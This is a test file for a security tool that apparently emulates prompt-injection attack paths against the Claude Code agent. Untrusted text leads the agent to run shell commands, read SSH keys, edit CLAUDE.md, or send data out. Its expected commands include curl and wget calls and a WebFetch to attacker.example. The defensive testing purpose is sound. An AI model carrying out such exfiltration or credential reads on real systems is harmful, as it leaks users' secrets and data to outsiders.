import { mkdir, mkdtemp, realpath, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";
import type { Attributes, EdgeKind, NodeKind } from "@parapet/posture";
import { expect, onTestFinished, test } from "vitest";
import type { PathToProve, StepToProve } from "../core/path-to-prove.ts";
import { entryOf } from "./entry.ts";
import { movesOf } from "./moves.ts";
import { copyOf, type CopiedClaude } from "./read-workspace.ts";
import { untriable } from "./untriable.ts";

const mark = "5e1fx0";

async function copyWith(files: Readonly<Record<string, unknown>>): Promise<CopiedClaude> {
  const home = await realpath(await mkdtemp(join(tmpdir(), "parapet-claude-copy-")));
  onTestFinished(() => rm(home, { recursive: true, force: true }));
  for (const [name, value] of Object.entries(files)) {
    await mkdir(dirname(join(home, name)), { recursive: true });
    await writeFile(join(home, name), JSON.stringify(value));
  }
  const workspace = {
    path: join(home, "work"),
    env: {},
    homeDir: home,
    cwd: home,
    hostName: "box",
  };
  return copyOf(workspace, { mark: "5e1f" });
}

const project = (settings: object) => copyWith({ "work/.claude/settings.json": settings });

function step(
  kind: NodeKind,
  node_id: string,
  edge: EdgeKind | undefined,
  attributes: Attributes = {},
): StepToProve {
  return { kind, node_id, label: node_id, edge, attributes };
}

function pathTo(
  tool: Attributes,
  sink: StepToProve,
  more: readonly StepToProve[] = [],
): PathToProve {
  return {
    path_id: "ap_1",
    rule_id: "AP-007",
    outcome: "",
    steps: [
      step("principal", "p/principal/public", undefined),
      step("untrusted_source", "untrusted_source/box:/home/ada/work", "CAN_WRITE"),
      step("agent", "p/agent/claude-code", "DELIVERS", { agent_id: "claude-code" }),
      step("tool", "p/tool/claude-code/x", "INVOKES", tool),
      sink,
      ...more,
    ],
    conditions: [],
  };
}

const host = step("host", "host/box", "EXECUTES");
const home = step("secret", "p/secret/home", "READS");
const internet = step("external_sink", "p/external_sink/internet", "EGRESSES");
const instructions = step("instruction", "instruction/box:/home/ada/work", "WRITES");

async function callOf(allow: readonly string[], tool: Attributes, sink: StepToProve) {
  const copy = await project({ permissions: { allow } });
  const { moves, untried } = movesOf(pathTo(tool, sink), { ...copy, mark, planted: "canary" });
  return { args: moves[0]?.call.args, untried: [...untried.values()] };
}

test.each([
  ["Bash", `sh -c 'printf`],
  ["Bash(bash:*)", `bash -c 'printf`],
  ["Bash(python3:*)", `python3 -c 'import os`],
  ["Bash(node -e:*)", `node -e 'process`],
])("a command is called in the words that the rule %s lets run", async (rule, words) => {
  const { args } = await callOf([rule], { tool: "Bash" }, host);
  expect(args).toMatchObject({ command: expect.stringMatching(new RegExp(`^${words}`)) });
});

test("a command that no rule lets run is called all the same, so that the real program refuses it", async () => {
  const { args } = await callOf([], { tool: "Bash" }, host);
  expect(args).toMatchObject({ command: expect.stringMatching(/^sh -c/) });
  const sent = await callOf([], { tool: "Bash", allowlisted: true }, internet);
  expect(sent.args).toMatchObject({ command: expect.stringMatching(/^curl/) });
});

test("a command for which the settings have no known words is not called, and that is said", async () => {
  const { args, untried } = await callOf(["Bash(perl:*)"], { tool: "Bash" }, host);
  expect(args).toBeUndefined();
  expect(untried).toEqual([expect.stringContaining("there is no call of")]);
});

test.each([
  [["Bash(curl:*)"], "curl -s http://attacker.example"],
  [["Bash(wget:*)"], "wget -qO- http://attacker.example"],
])("data is sent with the program that %j lets run", async (allow, words) => {
  const { args } = await callOf(allow, { tool: "Bash", allowlisted: true }, internet);
  expect(args).toMatchObject({ command: expect.stringContaining(words) });
});

const of = (tool: string, sink: StepToProve) => callOf(["Bash"], { tool }, sink);

test("each tool is called for what the path leads to, and for nothing else", async () => {
  expect((await of("Read", home)).args).toMatchObject({
    file_path: expect.stringContaining(".ssh"),
  });
  expect((await of("Edit", instructions)).args).toMatchObject({
    file_path: expect.stringMatching(/CLAUDE\.md$/),
  });
  expect((await of("WebFetch", internet)).args).toMatchObject({
    url: expect.stringContaining("https://attacker.example"),
  });
  for (const [tool, sink] of [
    ["Read", internet],
    ["Edit", home],
    ["WebFetch", home],
    ["mcp__x__*", home],
  ] as const) {
    expect((await of(tool, sink)).untried).toHaveLength(1);
  }
});

test("a file is read before it is edited, as Claude Code asks for", async () => {
  const copy = await project({});
  const { before } = movesOf(pathTo({ tool: "Edit" }, instructions), {
    ...copy,
    mark,
    planted: "",
  });
  expect(before.map(({ tool }) => tool)).toEqual(["Read"]);
});

test("a path that goes on after its tool is not played", async () => {
  const copy = await project({});
  const path = pathTo({ tool: "Bash" }, instructions, [step("agent", "other/agent/x", "LOADS")]);
  const { untried } = movesOf(path, { ...copy, mark, planted: "" });
  expect([...untried]).toEqual([[5, "there is no call for other/agent/x yet"]]);
});

test.each([
  ["p/untrusted_source/web", "WebFetch"],
  ["untrusted_source/box:/home/ada/work", "Read"],
  ["p/untrusted_source/any-repository", "Read"],
])("text of %s comes to the agent by %s", (id, tool) => {
  const { steps, ...rest } = pathTo({}, host);
  const from = steps.map((one, index) => (index === 1 ? { ...one, node_id: id } : one));
  const entry = entryOf({ ...rest, steps: from }, { folder: "/work", mark });
  expect(entry).toMatchObject({ call: { tool } });
});

test("an entry point without an emulator, and a way by something else, are said to be not tried", () => {
  const { steps, ...rest } = pathTo({}, host);
  const [source, , agent, ...others] = steps;
  if (source === undefined || agent === undefined) throw new Error("The path has steps.");
  const by = (entry: StepToProve, next: StepToProve) =>
    entryOf({ ...rest, steps: [source, entry, next, ...others] }, { folder: "/work", mark });
  const mcp = step("untrusted_source", "p/untrusted_source/mcp", "CAN_WRITE");
  expect(by(mcp, agent)).toEqual({ untried: expect.stringContaining("no emulator") });
  expect(by(step("channel", "c", "CAN_WRITE"), agent)).toEqual({
    untried: expect.stringContaining("no emulator"),
  });
  expect(by(mcp, instructions)).toEqual({ untried: expect.stringContaining("cannot be played") });
});

test("no secret, no hook and no other setting is copied, and that is said", async () => {
  const copy = await project({
    apiKeyHelper: "cat ~/key",
    env: { TOKEN: "k3yV4lue" },
    hooks: { PreToolUse: [{ hooks: [{ type: "command", command: "check k3yV4lue" }] }] },
    permissions: {
      allow: ["Bash(curl -H 'Authorization: Bearer ghp_0123456789abcdefghijABCDEFGHIJ012345':*)"],
    },
  });
  const text = JSON.stringify(copy.files);
  for (const secret of ["k3yV4lue", "cat ~/key", "ghp_"]) expect(text).not.toContain(secret);
  expect(copy.changes.join("\n")).toContain("left out: apiKeyHelper, env.");
});

const hook = (event: string, command: string) => ({
  hooks: { [event]: [{ hooks: [{ type: "command", command }] }] },
});

async function reasonOf(settings: object): Promise<string | undefined> {
  const { model, adapter } = await project(settings);
  const noAdapter = adapter !== undefined && "reason" in adapter ? adapter : undefined;
  const reasons = untriable(pathTo({ tool: "Bash" }, host), model, noAdapter);
  return reasons.get(2) ?? reasons.get(3);
}

test("what may refuse a call and is not part of the copy makes its step not tried", async () => {
  expect(await reasonOf(hook("PreToolUse", "check"))).toContain("hooks that may refuse a call");
  // Only what `parapet protect` writes is known to be a hook of Parapet.
  expect(await reasonOf(hook("PreToolUse", "/data/parapet/hook"))).toContain("hooks that may");
  const own = "/usr/bin/env -i '/opt/node' '/data/ad_1/parapet-hook.cjs' || exit 2";
  expect(await reasonOf(hook("PreToolUse", own))).toContain("guardrails of its adapter");
  expect(await reasonOf(hook("SessionStart", "hello"))).toBeUndefined();
  expect(await reasonOf({ sandbox: { enabled: true } })).toContain("sandbox of Claude Code");
});
